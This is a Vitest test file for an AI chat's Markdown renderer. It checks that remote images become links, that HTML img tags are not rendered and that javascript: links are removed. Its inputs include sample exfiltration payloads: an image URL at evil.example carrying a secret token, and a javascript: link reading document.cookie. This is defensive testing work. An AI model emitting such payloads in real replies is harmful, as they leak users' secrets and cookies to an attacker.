// @vitest-environment jsdom
import { cleanup, render, screen } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { Markdown } from '@/features/ai-chat/components/Markdown';

afterEach(cleanup);

describe('Markdown', () => {
  it('never loads a remote image by itself: it becomes a link named after its alt text', () => {
    const { container } = render(<Markdown content={'Look: ![a chart of sales](https://evil.example/leak.png?q=secret-token)'} />);
    expect(container.querySelector('img')).toBeNull();
    const link = screen.getByRole('link', { name: 'Image: a chart of sales' });
    expect(link.getAttribute('href')).toBe('https://evil.example/leak.png?q=secret-token');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link.getAttribute('target')).toBe('_blank');
  });

  it('names an image without alt text after its host', () => {
    const { container } = render(<Markdown content={'![](https://cdn.example.org/x.gif?q=1)'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.getByRole('link', { name: 'Image: cdn.example.org' }).getAttribute('href')).toBe('https://cdn.example.org/x.gif?q=1');
  });

  it('an HTML img tag in a reply is not rendered either', () => {
    const { container } = render(<Markdown content={'<img src="https://evil.example/p.png?q=secret">'} />);
    expect(container.querySelector('img')).toBeNull();
  });

  it('a javascript: link is not a link', () => {
    const { container } = render(<Markdown content={'[click me](javascript:alert(document.cookie)) and [ok](https://example.com/docs)'} />);
    expect(screen.queryByRole('link', { name: 'click me' })).toBeNull();
    expect(screen.getByText('click me')).toBeTruthy();
    expect(container.innerHTML).not.toContain('javascript:');
    expect(screen.getByRole('link', { name: 'ok' }).getAttribute('href')).toBe('https://example.com/docs');
  });

  it('an image pointing at javascript: is neither loaded nor a link', () => {
    const { container } = render(<Markdown content={'![x](javascript:alert(1))'} />);
    expect(container.querySelector('img')).toBeNull();
    expect(screen.queryByRole('link')).toBeNull();
    expect(container.innerHTML).not.toContain('javascript:');
  });
});
